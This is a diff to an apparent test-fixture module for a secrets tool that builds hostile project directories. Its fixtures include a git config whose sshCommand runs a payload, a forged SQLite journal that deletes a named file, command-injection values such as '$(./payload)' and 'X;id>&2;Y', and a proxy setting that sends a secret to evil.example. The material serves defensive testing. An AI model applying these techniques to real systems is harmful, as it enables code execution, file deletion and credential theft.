@@ -6,8 +6,11 @@ Each is a small function that fills a directory. It gets the directory and a pla
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
+import sqlite3
+import struct
 
 EVIL = "evil.example"
 PAYLOAD = '#!/bin/sh\n: > "$(dirname "$0")/was-run"\n'
@@ -158,6 +161,29 @@ def a_git_configuration_that_runs_programs(place, outside):
         (place / ".git" / name).mkdir(parents=True)
 
 
+@harmless
+def a_buried_bare_repository_that_lacks_what_is_staged(place, outside):
+    """A partial clone as ordinary files, with an index: git would fetch by the program that its config names."""
+    project(place, store("hashicorp-vault", addr="http://127.0.0.1:9", token="t"))
+    payload = write(place, "payload", PAYLOAD, 0o755)
+    write(place, "HEAD", "ref: refs/heads/main\n")
+    settings = "repositoryformatversion=1\nbare=false\nworktree=.\n"
+    remote = '[extensions]\npartialClone=origin\n[remote "origin"]\nurl=ssh://nowhere.invalid/x\npromisor=true\n'
+    write(place, "config", f"[core]\n{settings}sshCommand={payload}\n{remote}")
+    for name in ("objects", "refs/heads"):
+        (place / name).mkdir(parents=True)
+    names = (".env", ".envref.yaml")
+    entries = b"".join(_staged_entry(name) for name in names)
+    content = struct.pack(">4sII", b"DIRC", 2, len(names)) + entries
+    (place / "index").write_bytes(content + hashlib.sha1(content, usedforsecurity=False).digest())
+
+
+def _staged_entry(name):
+    """A file of git's index whose content no object has (git's index-format, version 2)."""
+    entry = struct.pack(">10I20sH", *[0] * 6, 0o100644, 0, 0, 0, b"\1" * 20, len(name)) + name.encode()
+    return entry + b"\0" * (8 - len(entry) % 8)
+
+
 @stopped
 def a_password_store_that_is_a_git_repository(place, outside):
     project(place, store("pass", store="store"))
@@ -167,6 +193,21 @@ def a_password_store_that_is_a_git_repository(place, outside):
     write(place, "store/.gpg-id", "attacker@evil.example\n")
     for name in ("objects", "refs"):
         (place / "store" / name).mkdir(parents=True)
+
+
+@stopped
+def a_program_beside_the_project_in_its_repository(place, outside):
+    """The project lies below its repository's root, and reaches the rest by a link and /proc, or by PATH."""
+    (place / ".git").mkdir()
+    write(place, "tools/op", PAYLOAD, 0o755)
+    (place / "sub").mkdir()
+    (place / "sub/up").symlink_to("..")
+    project(place, store("1password", command="/proc/self/cwd/sub/up/tools/op"))
+
+
+@stopped
+def a_program_of_the_store_s_name_in_a_place_for_everybody(place, outside):
+    project(place, store("plugin", command="/tmp/envref-backend-s"))
 
 
 # addresses
@@ -224,6 +265,28 @@ def a_vault_up_the_tree(place, outside):
 def a_vault_through_a_link(place, outside):
     (place / "data").symlink_to(outside)
     project(place, store("vault", path="data/private.db"))
+
+
+def crafted_journal(content, victim):
+    """A hot journal that names a super-journal: SQLite plays it back, and then deletes the file so named."""
+    magic, page_size = bytes.fromhex("d9d505f920a163d7"), struct.unpack(">H", content[16:18])[0]
+    header = magic + struct.pack(">IIIII", 0, 1234, len(content) // page_size, 512, page_size)
+    name = os.fsencode(victim)
+    tail = struct.pack(">I", 0x40000000 // page_size + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
+    return header.ljust(512, b"\0") + tail
+
+
+@harmless
+def a_vault_with_a_journal_that_deletes_a_file(place, outside):
+    """As a clone under umask 077 leaves it, or a tar archive."""
+    project(place, store("vault", path="v.db"))
+    connection = sqlite3.connect(place / "v.db")
+    connection.executescript("CREATE TABLE metadata(key, value); CREATE TABLE secrets(key, value, mac)")
+    connection.close()
+    journal = crafted_journal((place / "v.db").read_bytes(), outside / "private.env")
+    (place / "v.db-journal").write_bytes(journal)
+    for name in ("v.db", "v.db-journal"):
+        (place / name).chmod(0o600)
 
 
 @stopped
@@ -298,7 +361,7 @@ def _setting(name, value="./payload"):
         project(place, text=f"{name}={value}\n")
         write(place, "payload", PAYLOAD, 0o755)
 
-    build.__name__ = f"a_file_that_sets_{name}"
+    build.__name__ = f"a_file_that_sets_{name}" + ("" if value == "./payload" else "_to_a_value_of_its_own")
     return build
 
 
@@ -310,9 +373,24 @@ stopped(_setting("PYTHON_KEYRING_BACKEND", "evil.Keyring"))
 unreadable(_setting("ENVREF_TRUST", "all"))
 unreadable(_setting("ENVREF_CONFIG_DIR", "."))
 unreadable(_setting("X;id>&2;Y", "1"))
-harmless(_setting("GIT_SSH_COMMAND"))
-harmless(_setting("PYTHONPATH"))
-harmless(_setting("HTTP_PROXY", f"http://{EVIL}"))
+for _name in (
+    "HOME",
+    "PYTHONPATH",
+    "OPENSSL_CONF",
+    "PS1",
+    "HISTFILE",
+    "GIT_SSH_COMMAND",
+    "EDITOR",
+    "KUBECONFIG",
+    "RPROMPT",
+):
+    stopped(_setting(_name))
+stopped(_setting("HOME", "/proc/self/cwd/h"))
+stopped(_setting("OPTIND", "a[$(./payload)]"))
+stopped(_setting("NODE_OPTIONS", "--require ./payload"))
+stopped(_setting("HTTP_PROXY", f"http://{EVIL}"))
+stopped(_setting("HTTPS_PROXY", f"http://u:${{A}}@{EVIL}"))
+harmless(_setting("NODE_ENV", "$(./payload)"))
 
 
 # configs
